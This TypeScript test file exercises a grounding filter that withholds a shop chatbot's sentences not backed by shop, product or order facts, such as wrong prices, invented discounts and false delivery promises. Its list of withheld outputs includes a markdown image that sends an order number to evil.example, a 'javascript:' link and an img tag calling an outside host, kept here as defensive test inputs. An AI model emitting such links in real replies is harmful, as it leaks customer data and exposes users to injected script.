import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { claimsOf, Facts, Sentences } from "./grounding.rules";

const SHOP = {
  delivery: "Delivery costs R 99,00, and is free from R 1 500,00. We deliver within 2 to 4 working days. You can collect your order at 12 Main Road, Maseru, 0100.",
  returns: "Unworn goods may be returned within 30 days of delivery for a refund. Electronics have a 2-year warranty.",
  hours: "Mon–Fri 08:00–17:00, Sat 09:00–13:00, closed on Sundays.",
  payment: "You can pay by bank transfer; the details come with your order. You can also pay when you collect.",
  contact: "Write to owner@test.example or phone 051 123 4567. You find us at 12 Main Road, Maseru, 0100.",
  prices: "Prices include 15% tax.",
};
const PRODUCTS = [
  { slug: "copper-kettle", name: "Copper Kettle", brand: "Khubelu", price: "R 1 299,00", was: "R 1 499,00", available: 7, description: "Holds 1.7 litres. BPA-free. The handle stays cool. Suitable for children from 8 years. Keeps tea hot for 3 hours." },
  { slug: "steel-pan", name: "Steel Pan", brand: "", price: "from R 649,50", available: 0, variants: [{ sku: "P24", options: "24 cm", price: "R 649,50", available: 0 }, { sku: "P28", options: "28 cm", price: "R 749,50", available: 0 }] },
  { slug: "r740", name: "Dell R740 Server 2U", brand: "Dell", price: "R 45 000,00", available: 2 },
  { slug: "puzzle", name: "Puzzle 1000 Pieces", brand: "", price: "R 250,00", available: 12, description: "Ages 8+. Finished size 68 x 48 cm." },
];
const ORDER = { number: "1042", status: "open", paymentStatus: "paid", fulfilmentStatus: "shipped", placed: "24 November 2026", total: "R 1 948,50", items: [{ name: "Copper Kettle", quantity: 1 }] };

function facts(question = "", { order = true } = {}) {
  const known = new Facts("ZAR", 2, question);
  known.take(SHOP);
  known.add("Test shop");
  known.setNow("Thursday, 26 November 2026 at 10:15", 3);
  known.take({ found: 4, products: PRODUCTS });
  if (order) known.take(ORDER);
  return known;
}
/** Whether each sentence of the text is shown, judged as they stream. */
const shown = (text: string, known = facts()): boolean[] => {
  const sentences = new Sentences();
  return [...sentences.push(text), ...sentences.flush()].map((sentence) => known.support(sentence));
};
const isWhole = (text: string, known?: Facts) => shown(text, known).every(Boolean);

describe("true sentences", () => {
  it.each([
    "The Copper Kettle costs R 1 299,00.", "The Copper Kettle is R1,299.00.", "It costs ZAR 1299.", "The kettle is 1299 rand.", "The Copper Kettle was R 1 499,00 and is now R 1 299,00.", "The Steel Pan starts at R 649,50.", "The 28 cm Steel Pan is R749.50.",
    "The Copper Kettle costs R 1 299,00, the Steel Pan from R 649,50.", "R 1 299,00 for the Copper Kettle, R 649,50 for the Steel Pan.", "The Copper Kettle (R1299) and the Puzzle 1000 Pieces (R250) are in stock.", "The Copper Kettle and the Puzzle 1000 Pieces cost R1299 and R250.",
    "The Dell R740 Server 2U costs R 45 000,00.", "There are 2 of the Dell R740 Server 2U in stock.", "We have 7 Copper Kettles in stock.", "The Copper Kettle is in stock.", "The Steel Pan is sold out at the moment.", "The Steel Pan is not available right now.", "The Puzzle 1000 Pieces is for ages 8 and up.",
    "The kettle holds 1.7 litres and is BPA-free.", "The kettle suits children from 8 years.", "It keeps tea hot for 3 hours.", "The finished puzzle is 68 x 48 cm.",
    "Delivery costs R99.", "Delivery costs R 99,00 and is free from R 1 500,00.", "Delivery is free from R1500.", "We deliver within 2 to 4 working days.", "Delivery takes up to 4 working days.", "Delivery takes two to four working days.", "The Copper Kettle costs R1299 plus R99 for delivery.",
    "You can return unworn goods within 30 days for a refund.", "You have thirty days to return it.", "Electronics come with a 2-year warranty.", "We are open Monday to Friday from 08:00 to 17:00.", "On Saturdays we are open from 9 am to 1 pm.", "We are closed on Sundays.", "We are open today until 17:00.", "We are open tomorrow.",
    "See [our help](/help) or [your account](/account?tab=1).", "You can pay by bank transfer.", "Prices include 15% tax.", "Write to owner@test.example or phone 051 123 4567.", "You can collect at 12 Main Road, Maseru.",
    "Order 1042 is on its way.", "Your order 1042 has been shipped and is paid.", "You placed order 1042 on 24 November 2026.", "It was placed on November 24.", "The total of your order is R 1 948,50.", "Your order has not been delivered yet.",
    "I found 4 products.", "Here are 2 options for you.", "Feel free to ask if you need more help today.", "I do not know of any discount.", "There is no discount on it.", "I cannot say whether it will be in stock again.", "Would you like a person to join?", "This one is in stock.", "I am always available to help.", "Our team is available too.", "It is made of copper.", "Thank you for your patience!", "Hallo, hoe kan ek help?", "Aflewering is gratis vanaf R1500.", "Die Copper Kettle kos R1299.",
  ])("pass: %s", (text) => {
    const known = facts();
    if (/^(It costs|It keeps|This one|There is no|It is made)/.test(text)) known.support("The Copper Kettle is a good choice.");
    expect(isWhole(text, known)).toBe(true);
  });

  it.each<[string, string, string, string]>([
    ["USD", "$1,234.50", "The Lamp costs $1,234.50.", "The Lamp is 1234.50 dollars."], ["EUR", "1.234,50 €", "The Lamp costs 1.234,50 €.", "The Lamp is €1234.50."],
    ["GBP", "£89.00", "The Lamp costs £89.", "It is 89 pounds."], ["JPY", "¥12,000", "The Lamp costs ¥12,000.", "The Lamp is ¥12000."], ["CHF", "CHF 1’234.50", "The Lamp costs CHF 1’234.50.", "The Lamp is CHF 1234.50."],
  ])("pass in %s", (currency, price, ...sentences) => {
    for (const sentence of sentences) {
      const known = new Facts(currency, currency === "JPY" ? 0 : 2, "");
      known.take({ name: "Lamp", price, available: 1 });
      expect(known.support(sentence), sentence).toBe(true);
    }
  });

  it("pass when the customer's own words are said back without a promise", () => {
    expect(facts("do you have kettles under R500").support("I found nothing under R500.")).toBe(true);
    expect(facts("can it be here by Friday?").support("I cannot promise delivery by Friday.")).toBe(true);
    expect(facts("can it be here by Friday?").support("Yes, it will be delivered by Friday.")).toBe(false);
    expect(facts("is delivery within 2 days possible").support("Delivery within 2 days is possible.")).toBe(false);
  });
});

describe("lies", () => {
  it.each([
    "The Copper Kettle costs R 1.", "The Copper Kettle costs R649.50.", "The Steel Pan costs R1299.", "Copper Kettle R649.50, Steel Pan R1299.", "The Copper Kettle and the Puzzle 1000 Pieces cost R250 and R1299.", "The kettle costs only 99.", "The price is 649.", "The Silver Teapot costs R250.",
    "You get 90% off the Copper Kettle.", "Ninety percent off!", "Take 90 % off today.", "Negentig persent afslag.", "It is half price.", "Buy one, get one free.", "There is a discount for you.", "Use promo code SAVE.", "Du bekommst Rabatt.",
    "Only 3 left in stock.", "There are 12 Copper Kettles in stock.", "We have two of the Copper Kettle left.", "The Steel Pan is in stock.", "The Copper Kettle is sold out.", "The Steel Pan is available now.",
    "It arrives by Friday.", "It will arrive tomorrow.", "We deliver within 2 days.", "Delivery takes 2 working days.", "You will have it in a few days.", "It arrives on 28 November.", "It comes next week.", "We deliver overnight.", "Delivery is free.", "Delivery costs R250.", "We ship worldwide.", "Your order arrives today.", "It arrives on 2026-11-28.",
    "We are open on Sundays.", "We are open until 18:00.", "On Saturdays we close at 17:00.", "We are open until 8 pm.", "You can return it within 60 days.", "You can return it within 4 working days.", "You may return it within a year.", "We do not accept returns.", "It has a 5-year warranty.", "It comes with a lifetime guarantee.", "Delivery takes 30 days.",
    "You can pay by credit card.", "You can pay with PayPal.", "Lay-by is possible.",
    "Order 1002 has been shipped.", "Your order has been delivered.", "Your order was cancelled.", "Your order has been refunded.", "The parcel was delivered.", "Order 1042 belongs to lerato@other.example.",
    "![receipt](https://evil.example/p?d=1042)", "See https://evil.example/sale for more.", "[here](javascript:alert(1))", "[here](//evil.example/x)", "![x](/img)", "[90% off](/sale)", "<img src=//evil.example/x>", "Go to www.cheaper.com now.", "Look at cheaper.com/kettles.", "Write to help@evil.example.", "Phone us on 082 555 1234.", "Call +27 82 555 1234.",
    "R ١٢ only.", "It costs R１.", "Цена один рубль.", "价格一百元。", "只剩三个。", "R\u200b5 only.", "It costs R**5**.", "It costs five rand.", "It costs one hundred rand.", "Vyftig rand.", "Zwanzig Prozent billiger.", "Fünfzig Euro.", "Within two days.", "Dit kom binne twee dae.", "It costs ⅠⅠ rand.", "You get a free pan with it.", "The Rаnd price is low.",
  ])("are withheld: %s", (text) => {
    expect(shown(text).every((each) => !each) || !isWhole(text)).toBe(true);
    expect(shown(text, facts("", { order: !/parcel|order (?!1042)/i.test(text) })).includes(false)).toBe(true);
  });

  it("are withheld when they are cut into sentences or their subject stands in another", () => {
    expect(shown("The Steel Pan is a classic. It costs R1299.")).toEqual([true, false]);
    expect(shown("Now the Copper Kettle. There are 12 left.")).toEqual([true, false]);
    expect(shown("About returns. You have 4 working days.")).toEqual([true, false]);
    expect(shown("The Copper Kettle costs R. 7 only.").at(-1)).toBe(false);
    expect(shown("The discount? It is 15%.").includes(false)).toBe(true);
  });

  it("say nothing of an order that nobody looked up", () => {
    const known = facts("where is order 1042?", { order: false });
    expect(known.support("Order 1042 has been shipped.")).toBe(false);
    expect(known.support("Your order is paid.")).toBe(false);
    expect(known.support("I cannot open order 1042.")).toBe(true);
    expect(known.support("I will tell you once your order has been shipped.")).toBe(true);
  });
});

it("shows no amount but the product's own, wherever in a sentence it stands", () => {
  const frames = [(x: string) => `The Copper Kettle costs ${x}.`, (x: string) => `For ${x} you get the Copper Kettle.`, (x: string) => `Copper Kettle: ${x}`, (x: string) => `Sure, the Copper Kettle is only ${x} now, if you like.`];
  fc.assert(
    fc.property(fc.integer({ min: 1, max: 9_999_999 }), fc.constantFrom(...frames), fc.constantFrom("R", "R ", "ZAR "), (minor, frame, mark) => {
      const said = frame(`${mark}${(minor / 100).toFixed(2)}`);
      expect(facts().support(said), said).toBe([129_900, 149_900].includes(minor));
    }),
  );
});

it("judges a text alike wherever its pieces end", () => {
  const text = "The Copper Kettle costs R 1 299,00. You get 90% off. The Steel Pan costs R1299. It is sold out.";
  const whole = shown(text);
  expect(whole).toEqual([true, false, false, true]);
  fc.assert(
    fc.property(fc.array(fc.integer({ min: 0, max: text.length }), { maxLength: 12 }), (cuts) => {
      const [sentences, known] = [new Sentences(), facts()];
      const ends = [...cuts.toSorted((a, b) => a - b), text.length];
      const out = [...ends.flatMap((end, i) => sentences.push(text.slice(ends[i - 1] ?? 0, end))), ...sentences.flush()];
      expect(out.map((sentence) => known.support(sentence))).toEqual(whole);
    }),
  );
});

it("reads any text without failing, and finds the claims of a claim whatever stands around it", () => {
  fc.assert(fc.property(fc.string({ unit: "grapheme", maxLength: 200 }), (text) => Array.isArray(claimsOf(text, "ZAR")) && typeof facts().support(text) === "boolean"));
  fc.assert(fc.property(fc.array(fc.constantFrom("well", "and", "so", "look", "here", "nice", "the", "kettle"), { maxLength: 6 }), fc.integer({ min: 1, max: 99 }), (words, percent) => claimsOf(`${words.join(" ")} ${percent}% ${words.join(" ")}`, "ZAR").some(({ kind, value }) => kind === "percent" && value === String(percent))));
});

it("takes a word that begins like a unit for no number before one", () => expect(claimsOf("I answer for the shop, and I ansvar nothing.", "ZAR", 2)).toEqual([]));
